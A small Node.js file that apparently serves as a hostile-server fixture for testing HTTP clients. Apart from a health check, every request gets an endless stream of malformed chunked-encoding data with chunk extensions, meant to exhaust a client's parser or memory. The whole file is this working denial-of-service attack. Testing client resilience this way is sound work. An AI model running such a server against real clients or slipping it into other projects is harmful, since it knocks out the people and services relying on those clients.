import net from 'node:net';

const health = 'HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}';
/** Writes as fast as it is read, for as long as it is read. */
const pump = (socket, piece) => {
  const more = () => {
    while (!socket.destroyed && socket.write(piece));
  };
  socket.on('drain', more);
  more();
};

function attack(socket) {
  socket.write('HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n');
  pump(socket, '1;extension=value\r\n \r\n'.repeat(10000));
}
net
  .createServer((socket) => {
    socket.on('error', () => {}).once('data', (head) => (head.includes(' /health ') ? socket.end(health) : attack(socket, head)));
  })
  .listen(process.env.PORT);
